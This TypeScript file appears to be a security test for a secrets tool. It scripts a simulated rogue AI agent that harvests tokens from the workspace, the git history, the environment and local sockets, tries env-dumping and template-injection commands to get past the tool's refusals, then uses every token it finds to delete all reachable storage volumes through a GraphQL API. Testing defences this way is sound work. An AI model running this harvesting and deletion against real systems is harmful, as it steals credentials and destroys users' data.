// A scripted AI agent, as in the incident of April 2026: it works in a folder, meets a credential problem, and looks for
// any token that helps. It is a program of its own that imports nothing of the product, and it tries everything that a
// process of the same user can try without the human. Prints one JSON object: where it found what, and what it did.
//
//   node agent.ts '{"workspace":"...","api":"http://127.0.0.1:1/graphql/v2","places":["..."],"sockets":["..."],"command":["node","cli.js"],"names":["RAILWAY_API_TOKEN"],"reference":"ref+..."}'
import { execFile, spawn } from 'node:child_process';
import { lstat, readdir, readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';

interface Task {
	readonly workspace: string;
	readonly api: string;
	/** Folders outside the workspace that a process of the same user can read. */
	readonly places: readonly string[];
	readonly sockets: readonly string[];
	/** How to start the product's command. */
	readonly command: readonly string[];
	/** Variables that it would like to have. */
	readonly names: readonly string[];
	readonly reference?: string;
}

const task = JSON.parse(process.argv[2] ?? '{}') as Task;
const uuid = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/gi;
const utf16 = new TextDecoder('utf-16le');
/** token -> places where it was seen */
const seen = new Map<string, Set<string>>();
const refused: string[] = [];

function look(place: string, bytes: Buffer | string): void {
	const buffer = Buffer.isBuffer(bytes) ? bytes : Buffer.from(String(bytes));
	const texts = [buffer.toString('latin1'), utf16.decode(buffer), utf16.decode(buffer.subarray(1))];
	// one level of the usual encodings
	const plain = texts[0] ?? '';
	for (const match of plain.matchAll(/[A-Za-z0-9+/_-]{40,}={0,2}/g))
		texts.push(Buffer.from(match[0], 'base64').toString('latin1'));
	for (const match of plain.matchAll(/(?:[0-9a-f]{2}){32,}/gi))
		texts.push(Buffer.from(match[0], 'hex').toString('latin1'));
	texts.push(plain.replace(/%([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16))));
	for (const text of texts) {
		for (const [token] of text.matchAll(uuid)) {
			const places = seen.get(token.toLowerCase()) ?? new Set<string>();
			places.add(place);
			seen.set(token.toLowerCase(), places);
		}
	}
}

async function walk(folder: string, depth = 0): Promise<void> {
	if (depth > 24) return;
	const entries = await readdir(folder, { withFileTypes: true }).catch(() => []);
	for (const entry of entries) {
		const path = join(folder, entry.name);
		if (entry.isDirectory() && entry.name !== 'node_modules') await walk(path, depth + 1);
		else if (entry.isFile()) {
			const size = await lstat(path).then(
				(stat) => stat.size,
				() => 0,
			);
			if (size < 32_000_000) look(path, await readFile(path).catch(() => ''));
		}
	}
}

/** Runs a program without a terminal and looks at everything it prints. */
function tell(place: string, command: string, args: readonly string[], input?: string): Promise<number | null> {
	return new Promise((resolve) => {
		const child = spawn(command, [...args], { cwd: task.workspace, stdio: ['pipe', 'pipe', 'pipe'] });
		const chunks: Buffer[] = [];
		const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
		child.stdout.on('data', (chunk) => chunks.push(chunk));
		child.stderr.on('data', (chunk) => chunks.push(chunk));
		child.on('error', () => undefined);
		child.stdin.on('error', () => undefined);
		child.stdin.end(input ?? '');
		child.on('close', (code) => {
			clearTimeout(timer);
			look(place, Buffer.concat(chunks));
			resolve(code);
		});
	});
}

async function searchGit() {
	const git = (...args: string[]) => tell(`git ${args[0]}`, 'git', ['-c', 'core.pager=cat', ...args]);
	await git('grep', '-n', '-E', '[0-9a-f]{8}-');
	await git('log', '--all', '--reflog', '-p', '--no-color');
	await git('stash', 'list', '-p');
	await git('diff', '--cached');
	await git('reflog', '--all', '-p');
	const objects = await new Promise<string>((resolve) =>
		execFile(
			'git',
			['cat-file', '--batch-all-objects', '--batch-check=%(objectname) %(objecttype)'],
			{ cwd: task.workspace, maxBuffer: 1e8 },
			(_, out) => resolve(String(out ?? '')),
		),
	);
	for (const line of objects.split('\n')) {
		const [id, type] = line.split(' ');
		if (type === 'blob' && id) await git('cat-file', 'blob', id);
	}
}

async function askCommand() {
	const [program, ...first] = task.command;
	if (!program) return;
	const attempts = [
		['run', '--', 'env'],
		['run', '--', 'printenv', ...task.names.slice(0, 1)],
		['run', '--', process.execPath, '-e', 'console.log(JSON.stringify(process.env))'],
		['run', '--', process.execPath, '-e', 'console.log(Buffer.from(JSON.stringify(process.env)).toString("base64"))'],
		...task.names.map((name) => ['read', name]),
		...(task.reference ? [['read', task.reference]] : []),
	];
	for (const args of attempts) {
		const code = await tell(`agent-reach ${args.slice(0, 3).join(' ')}`, program, [...first, ...args]);
		if (code !== 0) refused.push(args.slice(0, 3).join(' '));
	}
	const template = [...task.names.map((name) => `{{ ${name} }}`), task.reference ?? ''].join('\n');
	const code = await tell('agent-reach inject', program, [...first, 'inject'], template);
	if (code !== 0) refused.push('inject');
}

/** Speaks to a socket directly, as somebody who has read the source would. */
async function askSocket(path: string): Promise<void> {
	await new Promise<void>((resolve) => {
		const socket = connect(path);
		const chunks: Buffer[] = [];
		const timer = setTimeout(() => socket.destroy(), 8_000);
		socket.on('error', () => undefined);
		socket.on('data', (chunk) => chunks.push(chunk));
		socket.on('close', () => {
			clearTimeout(timer);
			look(`socket ${path}`, Buffer.concat(chunks));
			resolve();
		});
		socket.on('connect', () => {
			const wanted = task.names.map((name) => ({ name, reference: task.reference ?? '' }));
			const claim = { version: 1, cwd: task.workspace, command: 'node scripts/add-domain.mjs shop.acme.example' };
			socket.write(`${JSON.stringify({ ...claim, operation: 'resolve', purpose: 'run', wanted })}\n`);
		});
	});
}

interface Answer {
	readonly errors?: unknown;
	readonly data: {
		readonly volumeDelete?: boolean;
		readonly projects: { edges: { node: { volumes: { edges: { node: { id: string } }[] } } }[] };
	};
}

async function call(token: string, query: string, variables: Record<string, string>): Promise<Answer> {
	const response = await fetch(task.api, {
		method: 'POST',
		headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
		body: JSON.stringify({ query, variables }),
	});
	return (await response.json()) as Answer;
}

await walk(task.workspace);
await searchGit();
look('environment', JSON.stringify(process.env));
for (const place of task.places) await walk(place);
for (const socket of task.sockets) await askSocket(socket);
await askCommand();

const usable: string[][] = [];
let deleted = false;
for (const [token, places] of seen) {
	const answer = await call(
		token,
		'query { projects { edges { node { id volumes { edges { node { id name } } } } } } }',
		{},
	);
	if (answer.errors) continue;
	usable.push([...places]);
	for (const { node: project } of answer.data.projects.edges) {
		for (const { node: volume } of project.volumes.edges) {
			const result = await call(token, 'mutation ($volumeId: String!) { volumeDelete(volumeId: $volumeId) }', {
				volumeId: volume.id,
			});
			deleted ||= !result.errors && result.data.volumeDelete === true;
		}
	}
}
// Places only: a report of an attack need not repeat the token.
console.log(JSON.stringify({ tokens: seen.size, usable, deleted, refused }));
